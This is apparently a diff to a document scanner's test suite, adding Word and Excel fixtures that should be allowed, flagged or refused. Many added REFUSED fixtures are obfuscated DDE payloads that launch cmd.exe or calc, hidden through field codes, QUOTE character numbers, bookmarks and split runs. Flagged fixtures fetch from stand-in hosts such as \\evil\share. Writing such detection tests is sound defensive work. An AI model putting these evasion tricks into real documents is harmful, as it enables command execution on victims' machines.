@@ -103,6 +103,17 @@ def field(*pieces: str, result: str = "x") -> str:
     return f"<w:p>{border('begin')}{runs}{border('separate')}{shown}{border('end')}</w:p>"
 
 
+def within(*pieces: str) -> str:
+    """A field whose instruction has other fields in it (what begins with `<`), and no result of its own."""
+    runs = (
+        piece
+        if piece.startswith("<")
+        else f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
+        for piece in pieces
+    )
+    return f"{border('begin')}{''.join(runs)}{border('end')}"
+
+
 def _workbook(more: str = "") -> str:
     return f'{_HEAD}<workbook {_S}><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>{more}</workbook>'
 
@@ -152,6 +163,16 @@ ORDINARY: dict[str, tuple[str, bytes]] = {
         + f"<w:p>{border('end')}</w:p>"
     ),
     "a form letter": docx(f'<w:p><w:fldSimple w:instr="{_MERGED}"><w:r/></w:fldSimple></w:p>'),
+    "a choice by another field": docx(
+        f"<w:p>{within('IF ', within('MERGEFIELD Gioi_tinh'), ' = 1 &quot;ông&quot; &quot;bà&quot;')}</w:p>"
+    ),
+    "a choice without a blank": docx(f"<w:p>{within('IF', within('MERGEFIELD a'), '=1 1 2')}</w:p>"),
+    "a sum of pages": docx(
+        f"<w:p>{within('=', within('PAGE'), '-1')}{within('= ', within('NUMPAGES'))}</w:p>"
+    ),
+    "a text that is quoted": docx(within("QUOTE ", within('DATE \\@ "dd/MM"'))),
+    "a bookmark and its text": docx(within('SET so "12/QĐ"') + within("REF so \\h") + within("so")),
+    "a link with a hint": docx(field('HYPERLINK \\o "xem thêm" "https://chinhphu.vn/a" \\t "_blank"')),
     "a text about DDE": docx("<w:p><w:r><w:t>Tắt DDEAUTO trong Word thế nào?</w:t></w:r></w:p>"),
     "written as it goes (streamed)": docx(is_streamed=True),
     "with a folder of its own": docx(parts={"word/": b"", "word/media/": b""}),
@@ -177,6 +198,20 @@ ORDINARY: dict[str, tuple[str, bytes]] = {
     "a text about links": xlsx(cell('"HYPERLINK(B1)"&amp;A1')),
     "a text that looks like a formula": xlsx(
         '<row r="1"><c t="inlineStr"><is><t>- a | b!</t></is></c></row>'
+    ),
+    "a list with a stroke and a warning in runs": xlsx(
+        f"<row><c t='inlineStr'><is><r><t>- Đơn vị {'a ' * 50}</t></r><r><t>A|B. Xin gấp!</t></r></is></c></row>"
+    ),
+    "sheets from one to another": xlsx(cell("SUM('Quý 1:Quý 4'!A1)")),
+    "a column with a slash": xlsx(cell("SUM(Bang1[Đơn/vị],Bang1['#Số/ngày])")),
+    "a pivot table of its own sheet": xlsx(
+        parts={
+            "xl/pivotCache/a.xml": "<pivotCacheDefinition><cacheSource type='worksheet'>"
+            "<worksheetSource ref='A1:B2' sheet='Quý 1'/></cacheSource></pivotCacheDefinition>"
+        }
+    ),
+    "a link to a place in it": xlsx(
+        more="<hyperlinks><hyperlink ref='A1' location=\"'Quý 1'!A1\"/></hyperlinks>"
     ),
     "a name for an area": xlsx(
         main=_workbook('<definedNames><definedName name="a">Sheet1!$A$1</definedName></definedNames>')
@@ -213,6 +248,19 @@ WARNED: dict[str, tuple[str, bytes, str]] = {
     "a picture fetched by a field": (*docx(field(f'INCLUDEPICTURE "{EVIL}.png" \\d')), "external"),
     "a text fetched by a field in pieces": (*docx(field("INCLU", "DETEXT ", EVIL)), "external"),
     "a link to a share by a field": (*docx(field('HYPERLINK "\\\\\\\\evil\\\\share"')), "external"),
+    "a link to a share behind its hint": (
+        *docx(field('HYPERLINK \\o "xem" "\\\\\\\\evil\\\\share"')),
+        "external",
+    ),
+    "a link to what another field says": (
+        *docx(f"<w:p>{within('HYPERLINK ', within('DOCPROPERTY a'))}</w:p>"),
+        "external",
+    ),
+    "a field that may fetch": (
+        *docx(f"<w:p>{within('INCLUDE', within('QUOTE 80 73'), ' &quot;a&quot;')}</w:p>"),
+        "external",
+    ),
+    "a page number for a name": (*docx(f"<w:p>{within(within('PAGE'))}</w:p>"), "unread"),
     "another document in it (altChunk)": (
         *docx(
             '<w:altChunk r:id="rId1"/>', links=[("aFChunk", "a.html", "")], parts={"word/a.html": "<p>x</p>"}
@@ -266,6 +314,32 @@ WARNED: dict[str, tuple[str, bytes, str]] = {
         *xlsx(empty_rows(20_000) + cell('HYPERLINK("\\\\evil\\a.exe")')),
         "external",
     ),
+    "a cell of another workbook on a share": (*xlsx(cell("'\\\\evil\\s\\[a.xlsx]S'!A1")), "external"),
+    "a cell of another workbook on the web": (*xlsx(cell("SUM('http://evil/[a.xlsx]S'!A1)")), "external"),
+    "a cell of another workbook in brackets": (*xlsx(cell("[http://evil/a.xlsx]S!A1")), "external"),
+    "a cell of another workbook in a large sheet": (
+        *xlsx(empty_rows(20_000) + cell("'http://evil/[a.xlsx]S'!A1")),
+        "external",
+    ),
+    "a pivot table of another workbook": (
+        *xlsx(
+            parts={
+                "xl/pivotCache/a.xml": "<pivotCacheDefinition refreshOnLoad='1'><cacheSource type='worksheet'>"
+                "<worksheetSource ref='A1:B2' sheet='\\\\evil\\s\\[a.xlsx]S'/></cacheSource></pivotCacheDefinition>"
+            }
+        ),
+        "external",
+    ),
+    "a pivot table of a database": (
+        *xlsx(
+            parts={"xl/a.xml": "<pivotCacheDefinition><cacheSource type='external'/></pivotCacheDefinition>"}
+        ),
+        "external",
+    ),
+    "a place that is on a share": (
+        *xlsx(more="<hyperlinks><hyperlink ref='A1' location='\\\\evil\\s!A1'/></hyperlinks>"),
+        "external",
+    ),
     "a query with no more than its table": (*xlsx(links=[("queryTable", "q.xml", "")]), "external"),
     "Power Query": (
         *xlsx(
@@ -280,6 +354,27 @@ WARNED: dict[str, tuple[str, bytes, str]] = {
     "a drawing that is no XML": (*xlsx(parts={"xl/drawings/vmlDrawing1.vml": "<xml><br></xml>"}), "unread"),
 }
 
+_NAMES_OF_COMMANDS = {
+    "in numbers": within(within("QUOTE 68 68 69 65 85 84 79"), " c:\\\\cmd.exe x"),
+    "in numbers of sixteen": within(within("QUOTE 0x44 0x44 0x45"), " c:\\\\cmd.exe x"),
+    "in numbers with another result": within(field("QUOTE 68 68 69", result="PAGE"), " c:\\\\cmd.exe x"),
+    "in halves": within("D", within("QUOTE 68 69"), " c:\\\\cmd.exe x"),
+    "in quotes": within("&quot;", within("QUOTE 68 68 69"), "&quot; c:\\\\cmd.exe x"),
+    "by a bookmark": within("SET c &quot;D&quot;") + within(within("REF c"), "DE c:\\\\cmd.exe x"),
+    "by a bookmark without REF": within(within("c"), " c:\\\\cmd.exe x"),
+    "by a property": within(within("DOCPROPERTY Title"), " c:\\\\cmd.exe x"),
+    "by the title": within(within("TITLE"), " c:\\\\cmd.exe x"),
+    "by a choice": within(within("IF 1=1 DDE"), " c:\\\\cmd.exe x"),
+    "by the picture of a number": within(within("=1 \\# &quot;'DDE'&quot;"), " c:\\\\cmd.exe x"),
+    "by the picture of a date": within(within("DATE \\@ &quot;'DDE'&quot;"), " c:\\\\cmd.exe x"),
+    "by a simple field": within("<w:fldSimple w:instr='QUOTE 68 68 69'/>", " c:\\\\cmd.exe x"),
+    "behind a field that shows nothing": within(within("SET a 1"), within("REF c"), " c:\\\\cmd.exe x"),
+    "by a field within another": within(within("QUOTE ", within("REF c")), " c:\\\\cmd.exe x"),
+    "for a picture": within(within("QUOTE 73 78 67 76 85 68 69"), "PICTURE &quot;\\\\\\\\evil\\\\s&quot;"),
+    "in words of the letter": within("<w:r><w:t>DDE</w:t></w:r>", " c:\\\\cmd.exe x"),
+    "before a tab": within("DDEAUTO", "<w:r><w:tab/></w:r>", "c:\\\\cmd.exe x"),
+    "before a line": within("DDE", "<w:r><w:br/></w:r>", "c:\\\\cmd.exe x"),
+}
 _ENTITIES = '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
 #: What is refused: name → (file name, content, reason).
 REFUSED: dict[str, tuple[str, bytes, str]] = {
@@ -296,6 +391,17 @@ REFUSED: dict[str, tuple[str, bytes, str]] = {
         *docx(
             f"<w:p>{border('begin')}{field('QUOTE 68 68 69', result='DDE')}"
             f"<w:r><w:instrText> cmd</w:instrText></w:r>{border('end')}</w:p>"
+        ),
+        "commands",
+    ),
+    **{
+        f"a name computed {how}": (*docx(f"<w:p>{body}</w:p>"), "commands")
+        for how, body in _NAMES_OF_COMMANDS.items()
+    },
+    "DDE in two paragraphs": (
+        *docx(
+            f"<w:p>{border('begin')}<w:r><w:instrText>DD</w:instrText></w:r></w:p>"
+            f"<w:p><w:r><w:instrText>E cmd</w:instrText></w:r>{border('end')}</w:p>"
         ),
         "commands",
     ),
@@ -321,6 +427,22 @@ REFUSED: dict[str, tuple[str, bytes, str]] = {
         *xlsx(
             """<row r="1"><c t="inlineStr"><is><t>=cmd|'/c calc'!A0</t></is></c></row>""",
         ),
+        "commands",
+    ),
+    "a command in runs of a cell's text": (
+        *xlsx(
+            """<row><c t="inlineStr"><is><r><t>=cm</t></r><r><t>d|'/c calc'!A0</t></r></is></c></row>""",
+        ),
+        "commands",
+    ),
+    "a command in runs of a shared text": (
+        *xlsx(
+            parts={"xl/a.xml": "<sst><si><r><t>=cmd</t></r><r><t>|'/c calc'!A0</t></r></si></sst>"},
+        ),
+        "commands",
+    ),
+    "a command behind a long sum in a text": (
+        *xlsx(f"""<row><c t="inlineStr"><is><t>={"1+" * 60}cmd|'/c calc'!A0</t></is></c></row>"""),
         "commands",
     ),
     "a command under a name": (
